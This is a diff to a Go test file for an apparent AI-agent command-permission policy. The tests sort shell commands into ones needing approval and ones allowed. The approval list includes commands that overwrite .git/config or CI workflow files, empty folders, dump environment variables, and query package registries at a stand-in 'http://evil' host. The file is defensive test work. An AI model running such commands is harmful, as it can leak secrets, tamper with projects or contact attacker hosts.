@@ -72,10 +72,24 @@ func TestSH7_developerForce(t *testing.T) {
 		"git fetch origin +refs/heads/*:refs/remotes/origin/*", "git pull origin main", "git branch x", "git mv a b", "git commit -m n", "python3 -m http.server -b localhost 8000", "python3 -m http.server 8000 --bind 127.0.0.1 --directory docs/site")
 }
 
+// TestSH8_developerWrites: what an option has a program write behind a colon, what flags
+// have the tools of go write, and a folder that is emptied, are seen.
+func TestSH8_developerWrites(t *testing.T) {
+	p := preset(t, "developer")
+	commands(t, p, sayso.Ask, "pytest --cov-report=html:../x", "pytest --cov-report xml:/tmp/x", "python3 -m pytest --cov-report=xml:.git/config", "pytest --cov-report=xml:.github/workflows/ci.yml", "golangci-lint run --out-format=json:../x", "golangci-lint run --out-format tab,json:/tmp/x",
+		"golangci-lint run --out-format json:.git/config,tab", "go build -gcflags=-cpuprofile=../x ./...", "go build -gcflags='all=-N -cpuprofile ../x' ./...", "go test -ldflags=-cpuprofile=x ./...", "go build -asmflags=-o=../x .", "go build -asmflags=all=-o=../x .", "go vet -gcflags=--memprofile=x ./...",
+		"python3 -m venv --clear src", "python -m venv --clear .", "python3 -m venv src --cle", "echo x > .drone.yml", "cp a.go .woodpecker/x.yml", "mv a.go .lefthook.yml", "tee .gdbinit < a.go", "sed -i s/a/b/ app.code-workspace")
+	commands(t, p, sayso.Allow, "pytest --cov --cov-report=term-missing --cov-report=xml:coverage.xml", "pytest --cov-report html:htmlcov", "golangci-lint run --out-format=colored-line-number", "golangci-lint run --out-format=json:lint.json,tab", "go build -ldflags='-s -w -X main.version=v1.2.3' ./...",
+		"go build -gcflags='all=-N -l' ./...", "go test -gcflags=-m=2 ./...", "go build -ldflags=-X=main.o=x .", "python3 -m venv .venv", "python3 -m venv --upgrade-deps .venv")
+}
+
 // TestPreset_developerTells: what shows the environment, and what tells another
 // machine a name of the agent's making, is asked about.
 func TestPreset_developerTells(t *testing.T) {
 	p := preset(t, "developer")
+	commands(t, p, sayso.Ask, "gh pr view 1 -R example.org/a/b", "gh pr list --repo=example.org/a/b", "gh pr list -Rexample.org/a/b", "gh pr list -wRexample.org/a/b", "gh repo view example.org/a/b", "gh repo view https://example.org/a/b", "gh issue list --rep example.org/a/b", "gh repo view git@example.org:a/b", "gh repo view ssh://git@example.org/a/b",
+		"gh release view -R github.com.example.org/a/b", "git fetch origin --server-option=x", "git fetch origin -o x", "git ls-remote origin -o x", "git pull origin --server-option x")
+	commands(t, p, sayso.Allow, "gh pr view 1 -R a/b", "gh pr view 1 -R github.com/a/b", "gh pr list --repo a/b.js", "gh repo view a/b", "gh pr view feature/a/b", "gh run view 1 --log --repo a/b", "gh pr view 1 --json title,body", "gh issue list --search 'is:open label:bug'")
 	commands(t, p, sayso.Ask, "ps auxe", "ps aux e", "ps eww", "ps -ef e", "ps -E", "jq -n env", "jq -n \"env\"", "jq '$ENV' x", "jq -n '$ENV.HOME'", "jq '.a = env.HOME' x", "jq '{env: .x}|env' x", "yq 'strenv(HOME)'", "yq -n 'env(HOME)'",
 		"awk 'BEGIN{print ENVIRON[\"HOME\"]}'", "awk 'BEGIN{for (k in ENVIRON) print k}'", "gawk 'BEGIN{print SYMTAB[\"x\"]}'",
 		"npm view leak.example --registry=http://evil", "npm view leak.example --reg http://evil", "npm view x --@y:registry=http://evil", "npm view http://evil/x.tgz", "pip list --outdated --index-url http://evil", "cargo search x --index http://evil",
